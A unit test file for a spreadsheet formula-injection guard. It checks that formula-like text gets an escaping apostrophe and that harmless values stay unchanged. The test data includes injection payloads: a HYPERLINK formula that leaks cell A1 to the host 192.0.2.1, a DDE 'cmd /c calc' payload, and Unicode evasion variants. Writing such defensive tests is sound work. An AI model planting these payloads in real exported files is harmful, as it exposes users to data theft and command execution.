/** H7: texts that a spreadsheet would run are pasted as texts and come back as they were; numbers stay numbers. */
import { describe, expect, it } from 'vitest'
import { guardFormula, withoutGuard } from '../../shared/formulaGuard.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"bấm")',
  "=cmd|'/c calc'!A1",
  '+1+cmd',
  '-1+1|0',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1',
  ' =1+1',
  '\u00a0=1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+a',
  '－1+a',
  '＠SUM(A1)',
  '|calc',
  '%0A=1+1',
  '-cmd',
  '=',
]
const harmless = [
  '',
  '-',
  '–',
  '-5',
  '+5',
  '-1.330',
  '3,5',
  '+84912345678',
  '12%',
  '-12,5%',
  '01/02/2021',
  'Lường Văn A',
  'a=b',
  "'quen",
]

describe('H7 what is copied for a spreadsheet', () => {
  it.each(formulas)('%j is pasted as a text', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`)
    expect(withoutGuard(guardFormula(text))).toBe(text)
  })

  it.each(harmless)('%j stays as it is', (text) => {
    expect(guardFormula(text)).toBe(text)
    expect(withoutGuard(text)).toBe(text)
  })
})
